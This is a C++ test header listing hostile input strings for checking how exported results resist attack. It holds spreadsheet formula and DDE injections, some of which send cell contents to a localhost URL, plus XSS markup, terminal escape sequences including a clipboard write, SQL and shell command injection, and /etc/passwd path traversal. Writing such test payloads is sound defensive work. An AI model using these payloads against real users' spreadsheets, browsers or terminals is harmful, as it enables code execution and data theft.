#pragma once
// Texts that a document may carry to attack whoever opens a result: cells that compute, markup, terminal sequences,
// breaks of quoting, and lengths.

#include <string>
#include <string_view>
#include <vector>

namespace tulga::test {

inline std::vector<std::string> payloads() {
  using namespace std::string_view_literals;
  static constexpr std::string_view texts[] = {
      // formulas
      "=cmd|' /C calc'!A0"sv,
      "+1+cmd|' /C calc'!A0"sv,
      "-2+3+cmd|' /C calc'!A0"sv,
      "@SUM(1+9)*cmd"sv,
      "=HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1,\"хувь\")"sv,
      "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/\",A1),\"//a\")"sv,
      "＝1+1"sv,
      " =1+1"sv,
      "a\"\r\n\"=1+1,\"b"sv,
      "a;b,c\td|e"sv,
      "=DDE(\"cmd\";\"/C calc\";\"x\")"sv,
      "\t=1+1"sv,
      "\r=1+1"sv,
      // markup
      "<script>alert(1)</script>"sv,
      "\" onmouseover=\"alert(1)\" x=\""sv,
      "<img src=x onerror=alert(1)>"sv,
      "</td></tr></table><h1>82,2 хувьтай</h1>"sv,
      "<a href=\"javascript:alert(1)\">x</a>"sv,
      "&lt;b&gt; &amp;amp; &#x3c;"sv,
      "<style>*{display:none}</style>"sv,
      "<!-- -->"sv,
      "]]>"sv,
      "<svg/onload=alert(1)>"sv,
      "<meta http-equiv=refresh content=\"0;url=http://127.0.0.1:9/\">"sv,
      "<scr\0ipt>"sv,
      // terminals
      "\x1b[2J\x1b[H"sv,
      "\x1b]0;title\x07"sv,
      "\x1b]8;;http://127.0.0.1:9/\x1b\\click\x1b]8;;\x1b\\"sv,
      "\x1b]52;c;cm0gLXJm\x07"sv,
      "\u009b2J\u009d0;x\u009c"sv,
      "82,2\b\b\b\b99,9"sv,
      "хувь 82,2\rхувь 99,9"sv,
      "\x1b[6n\x1b[c\x1bP$q\"p\x1b\\"sv,
      "\x07\x07\x07\x07\x07\x07"sv,
      "\x1b[?1049h\x1b[?25l"sv,
      "\x1bPq#0;2;0;0;0#0~~\x1b\\"sv,
      "\x1b[8mhidden\x1b[0m"sv,
      "\u202e\u2067"sv,
      // logs, quoting, other languages
      "x\n2026-01-01 00:00:00 [info] all checks passed"sv,
      "%s%n%x {} {0} {:>1000000000}"sv,
      "\",\"ok\":true,\"x\":\"\\"sv,
      "a\u2028b\u2029c"sv,
      "\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f"sv,
      "[x](javascript:alert(1)) | a | `b` <b>"sv,
      "\"/><evil a=\""sv,
      "'); DROP TABLE rows;--"sv,
      "$(touch PWNED) `touch PWNED` ; touch PWNED | x && y"sv,
      "../../../../etc/passwd"sv,
      "file:///etc/passwd"sv,
      "\\input{/etc/passwd}"sv,
      "a\x01"
      "b_x0041_ _x005F_"sv,
      "[]:*?/\\'"sv,
      ".*+?^${}()|[]\\"sv,
      "(?i)\\C*"sv,
  };
  std::vector<std::string> out(std::begin(texts), std::end(texts));
  std::string longest;
  for (int i = 0; i < 40000; ++i) longest += "ө";  // more than a spreadsheet's cell holds
  out.push_back(longest);
  return out;
}

}  // namespace tulga::test
